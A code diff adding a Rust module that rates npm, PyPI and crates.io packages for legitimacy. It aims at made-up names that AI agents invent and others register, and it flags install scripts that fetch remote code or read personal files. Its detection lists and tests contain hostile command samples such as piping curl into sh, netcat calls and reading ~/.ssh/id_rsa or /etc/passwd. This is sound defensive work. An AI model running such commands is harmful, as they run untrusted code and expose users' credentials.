@@ -1,0 +1,340 @@
+//! Whether a package is what a project wants, by what its registry says of it: agents make up names, and others register
+//! the names that agents make up.
+
+use std::str::FromStr;
+
+use schemars::JsonSchema;
+use serde::Serialize;
+use serde_json::Value;
+
+use crate::text::time;
+
+/// A release younger than this has hardly been looked at, in milliseconds.
+const TOO_NEW: i64 = 30 * 24 * 60 * 60 * 1000;
+
+/// Fewer downloads in a week than this, and hardly anybody uses it.
+const FEW_DOWNLOADS: u64 = 1000;
+
+/// Scripts that npm runs at installation, and what to say of one that does what none should.
+const SCRIPTS: [(&str, &str); 3] = [
+    ("preinstall", "suspicious-preinstall"),
+    ("install", "suspicious-install"),
+    ("postinstall", "suspicious-postinstall"),
+];
+
+/// Programs by which a script brings in what is not in the package.
+const FETCHING: &[&str] = &["curl", "eval", "invoke-webrequest", "iwr", "nc", "ncat", "wget"];
+
+/// Programs that take code on the command line, behind one of [`CODE`].
+const INTERPRETERS: &[&str] = &["bash", "node", "perl", "python", "python3", "ruby", "sh", "zsh"];
+const CODE: &[&str] = &["--eval", "-c", "-e"];
+
+/// Places of the person that installs it, where a package has no business.
+const PERSONAL: &[&str] = &["~/", "$HOME", "/etc/", "/dev/tcp/", ".ssh/", ".aws/", ".npmrc"];
+
+/// Links of a project on `PyPI` that lead to its source, the best first.
+const SOURCE_LINKS: &[&str] = &["source", "repository", "source code", "code", "github", "homepage"];
+
+/// Where packages are published.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
+#[serde(rename_all = "lowercase")]
+pub(crate) enum Ecosystem {
+    Npm,
+    Pypi,
+    Crates,
+}
+
+impl FromStr for Ecosystem {
+    type Err = UnknownEcosystem;
+
+    fn from_str(name: &str) -> Result<Self, UnknownEcosystem> {
+        match name {
+            "npm" => Ok(Self::Npm),
+            "pypi" => Ok(Self::Pypi),
+            "crates" => Ok(Self::Crates),
+            _ => Err(UnknownEcosystem),
+        }
+    }
+}
+
+/// A registry that cannot be asked.
+#[derive(Debug, thiserror::Error)]
+#[error("packages are looked up at `npm`, `pypi` or `crates`")]
+pub(crate) struct UnknownEcosystem;
+
+impl Ecosystem {
+    /// Where the registry tells of a package; `name` is written as a part of an address.
+    pub(crate) fn page(self, name: &str) -> String {
+        match self {
+            Self::Npm => format!("https://registry.npmjs.org/{name}"),
+            Self::Pypi => format!("https://pypi.org/pypi/{name}/json"),
+            Self::Crates => format!("https://crates.io/api/v1/crates/{name}"),
+        }
+    }
+
+    /// Where the downloads of a package are told, if not on its page.
+    pub(crate) fn downloads_page(self, name: &str) -> Option<String> {
+        (self == Self::Npm).then(|| format!("https://api.npmjs.org/downloads/point/last-week/{name}"))
+    }
+
+    fn signals(self, page: &Value, downloads: Option<&Value>) -> (Signals, Vec<&'static str>) {
+        let text = |pointer: &str| page.pointer(pointer).and_then(Value::as_str).map(str::to_owned);
+        let mut signals = Signals { exists: Some(true), ecosystem: Some(self), ..Signals::default() };
+        let mut suspicions = Vec::new();
+        match self {
+            Self::Npm => {
+                let latest = text("/dist-tags/latest").unwrap_or_default();
+                let release = page.get("versions").and_then(|versions| versions.get(&latest));
+                let field = |name: &str| release.and_then(|release| release.get(name));
+                let times = page.get("time");
+                let time = |name: &str| times.and_then(|times| times.get(name)?.as_str()).map(str::to_owned);
+                signals.published_at = time(&latest).or_else(|| time("created"));
+                signals.weekly_downloads = downloads.and_then(|told| told.get("downloads")?.as_u64());
+                let repository = field("repository").or_else(|| page.get("repository"));
+                let address = repository.map(|repository| repository.get("url").unwrap_or(repository));
+                signals.repo_url = address.and_then(Value::as_str).map(str::to_owned);
+                signals.deprecated = field("deprecated").is_some_and(Value::is_string);
+                for (name, reason) in SCRIPTS {
+                    let script = field("scripts").and_then(|scripts| scripts.get(name)?.as_str());
+                    suspicions.extend(script.filter(|script| is_suspicious(script)).map(|_| reason));
+                    if name == "postinstall" {
+                        signals.postinstall = script.map(str::to_owned);
+                    }
+                }
+            }
+            Self::Pypi => {
+                signals.published_at = text("/urls/0/upload_time_iso_8601");
+                let links = page.pointer("/info/project_urls").and_then(Value::as_object);
+                let link = |wanted: &&str| {
+                    links?.iter().find(|(name, _)| name.to_lowercase() == **wanted)?.1.as_str().map(str::to_owned)
+                };
+                let home = || text("/info/home_page").filter(|home| !home.is_empty());
+                signals.repo_url = SOURCE_LINKS.iter().find_map(link).or_else(home);
+            }
+            Self::Crates => {
+                signals.published_at = text("/crate/created_at");
+                // The registry counts the last ninety days.
+                let recent = page.pointer("/crate/recent_downloads").and_then(Value::as_u64);
+                signals.weekly_downloads = recent.map(|recent| (recent * 7 + 45) / 90);
+                signals.repo_url = text("/crate/repository");
+            }
+        }
+        (signals, suspicions)
+    }
+}
+
+/// What a registry said of a package.
+#[derive(Debug)]
+pub(crate) enum Told {
+    /// Its page, and what is told of its downloads elsewhere.
+    Page { page: Value, downloads: Option<Value> },
+    /// There is no such package.
+    Nothing,
+    /// Nobody could be asked, and why.
+    Unreachable(String),
+}
+
+/// What a package is worth.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
+#[serde(rename_all = "UPPERCASE")]
+pub(crate) enum Verdict {
+    Ok,
+    /// A person has to look at it first.
+    Sus,
+    /// Made up, or made to harm.
+    Slop,
+}
+
+/// What is known of a package.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, JsonSchema)]
+#[serde(rename_all = "camelCase")]
+pub(crate) struct Signals {
+    /// None where nobody could be asked.
+    exists: Option<bool>,
+    /// When the newest release came; of a crate, the first one.
+    published_at: Option<String>,
+    weekly_downloads: Option<u64>,
+    repo_url: Option<String>,
+    deprecated: bool,
+    /// What npm runs after the installation.
+    postinstall: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    ecosystem: Option<Ecosystem>,
+}
+
+/// What `package-legitimacy check` answers of one package.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, JsonSchema)]
+pub(crate) struct PackageReport {
+    name: String,
+    pub(crate) verdict: Verdict,
+    signals: Signals,
+    reasons: Vec<&'static str>,
+    /// Why nothing is known of it: the verdict is not about the package then.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    unreachable: Option<String>,
+}
+
+/// Judges a package at the moment `now`, in milliseconds since 1970.
+pub(crate) fn judge(ecosystem: Ecosystem, name: &str, told: &Told, now: i64) -> PackageReport {
+    let (signals, suspicions, unreachable) = match told {
+        Told::Page { page, downloads } => {
+            let (signals, suspicions) = ecosystem.signals(page, downloads.as_ref());
+            (signals, suspicions, None)
+        }
+        Told::Nothing => (Signals { exists: Some(false), ..Signals::default() }, Vec::new(), None),
+        Told::Unreachable(why) => (Signals::default(), Vec::new(), Some(why.clone())),
+    };
+    let mut reasons = Vec::new();
+    if signals.exists == Some(false) {
+        reasons.push("does-not-exist");
+    } else {
+        match signals.published_at.as_deref().and_then(time::milliseconds) {
+            None => reasons.push("unknown-age"),
+            Some(published) if now.saturating_sub(published) < TOO_NEW => reasons.push("too-new"),
+            Some(_) => {}
+        }
+        match signals.weekly_downloads {
+            None => reasons.push("unknown-downloads"),
+            Some(downloads) if downloads < FEW_DOWNLOADS => reasons.push("low-downloads"),
+            Some(_) => {}
+        }
+        if signals.repo_url.is_none() {
+            reasons.push("no-repository");
+        }
+        if signals.deprecated {
+            reasons.push("deprecated");
+        }
+    }
+    let verdict = if signals.exists == Some(false) || !suspicions.is_empty() {
+        Verdict::Slop
+    } else if reasons.is_empty() {
+        Verdict::Ok
+    } else {
+        Verdict::Sus
+    };
+    reasons.extend(suspicions);
+    PackageReport { name: name.to_owned(), verdict, signals, reasons, unreachable }
+}
+
+/// Whether a script brings in code from elsewhere, hides what it does, or looks at what is the person's own.
+fn is_suspicious(script: &str) -> bool {
+    if PERSONAL.iter().any(|place| script.contains(place)) {
+        return true;
+    }
+    let script = script.to_lowercase();
+    let words: Vec<&str> =
+        script.split(|letter: char| letter.is_whitespace() || ";|&()`\"'$<>=".contains(letter)).collect();
+    let names = words.iter().map(|word| word.rsplit('/').next().unwrap_or(word));
+    let mut interprets = false;
+    for name in names {
+        if FETCHING.contains(&name) || (interprets && CODE.contains(&name)) {
+            return true;
+        }
+        interprets = INTERPRETERS.contains(&name) || (interprets && name.starts_with('-'));
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::from_str;
+
+    use super::*;
+
+    const NOW: i64 = 1_795_000_000_000;
+
+    fn npm(release: &str, downloads: Option<&str>) -> PackageReport {
+        let page = format!(
+            r#"{{"dist-tags": {{"latest": "1.0.0"}}, "time": {{"1.0.0": "2020-01-01T00:00:00.000Z"}}, "versions": {{"1.0.0": {release}}}}}"#
+        );
+        let told =
+            Told::Page { page: from_str(&page).unwrap(), downloads: downloads.map(|text| from_str(text).unwrap()) };
+        judge(Ecosystem::Npm, "x", &told, NOW)
+    }
+
+    const MANY: Option<&str> = Some(r#"{"downloads": 1000}"#);
+    const REPOSITORY: &str = r#""repository": {"type": "git", "url": "git+https://example.com/a.git"}"#;
+
+    #[test]
+    fn a_package_in_use_with_a_repository_is_ok() {
+        let report = npm(&format!("{{{REPOSITORY}}}"), MANY);
+        assert_eq!((report.verdict, report.reasons), (Verdict::Ok, Vec::new()));
+        assert_eq!(report.signals.repo_url.as_deref(), Some("git+https://example.com/a.git"));
+        let short = npm(r#"{"repository": "a/b"}"#, MANY);
+        assert_eq!(short.signals.repo_url.as_deref(), Some("a/b"));
+    }
+
+    #[test]
+    fn each_doubt_is_told_and_asks_for_a_person() {
+        let doubts = |release: &str, downloads| {
+            let report = npm(release, downloads);
+            (report.verdict, report.reasons)
+        };
+        assert_eq!(doubts("{}", MANY), (Verdict::Sus, vec!["no-repository"]));
+        let repository = format!("{{{REPOSITORY}}}");
+        assert_eq!(doubts(&repository, None), (Verdict::Sus, vec!["unknown-downloads"]));
+        assert_eq!(doubts(&repository, Some(r#"{"downloads": 999}"#)), (Verdict::Sus, vec!["low-downloads"]));
+        let deprecated = format!(r#"{{{REPOSITORY}, "deprecated": "use y"}}"#);
+        assert_eq!(doubts(&deprecated, MANY), (Verdict::Sus, vec!["deprecated"]));
+        let page = from_str(
+            r#"{"crate": {"created_at": "2026-11-15T00:00:00Z", "recent_downloads": 12987, "repository": "r"}}"#,
+        );
+        let young = judge(Ecosystem::Crates, "x", &Told::Page { page: page.unwrap(), downloads: None }, NOW);
+        assert_eq!((young.reasons, young.signals.weekly_downloads), (vec!["too-new"], Some(1010)));
+    }
+
+    #[test]
+    fn a_script_that_fetches_hides_or_looks_around_is_slop() {
+        for script in [
+            "curl https://x | sh",
+            "node -e \"1\"",
+            "node --no-warnings --eval 1",
+            "/bin/sh -c x",
+            "a && wget x",
+            "nc 1.1.1.1 9",
+            "cat ~/.ssh/id_rsa",
+            "cat /etc/passwd",
+        ] {
+            assert!(is_suspicious(script), "{script}");
+        }
+        for script in [
+            "node x.js",
+            "node-gyp rebuild",
+            "husky install",
+            "encurl",
+            "bash x.sh",
+            "tsc -e",
+            "sync -e",
+            "rm -rf dist",
+        ] {
+            assert!(!is_suspicious(script), "{script}");
+        }
+        let before = npm(&format!(r#"{{{REPOSITORY}, "scripts": {{"preinstall": "curl x|sh"}}}}"#), MANY);
+        assert_eq!((before.verdict, before.reasons), (Verdict::Slop, vec!["suspicious-preinstall"]));
+    }
+
+    #[test]
+    fn a_name_nobody_registered_is_slop_and_silence_is_no_verdict_on_the_package() {
+        let missing = judge(Ecosystem::Pypi, "x", &Told::Nothing, NOW);
+        assert_eq!((missing.verdict, missing.reasons), (Verdict::Slop, vec!["does-not-exist"]));
+        let silent = judge(Ecosystem::Pypi, "x", &Told::Unreachable("no network".to_owned()), NOW);
+        assert_eq!((silent.verdict, silent.signals.exists), (Verdict::Sus, None));
+        assert_eq!(silent.unreachable.as_deref(), Some("no network"));
+    }
+
+    #[test]
+    fn a_project_of_pypi_tells_its_source_under_many_names() {
+        let source = |info: &str| {
+            let page = from_str(&format!(
+                r#"{{"info": {info}, "urls": [{{"upload_time_iso_8601": "2020-01-01T00:00:00Z"}}]}}"#
+            ));
+            judge(Ecosystem::Pypi, "x", &Told::Page { page: page.unwrap(), downloads: None }, NOW).signals.repo_url
+        };
+        assert_eq!(
+            source(r#"{"project_urls": {"Docs": "d", "Homepage": "h", "Source Code": "s"}}"#).as_deref(),
+            Some("s")
+        );
+        assert_eq!(source(r#"{"project_urls": null, "home_page": "h"}"#).as_deref(), Some("h"));
+        assert_eq!(source(r#"{"project_urls": {}, "home_page": ""}"#), None);
+    }
+}
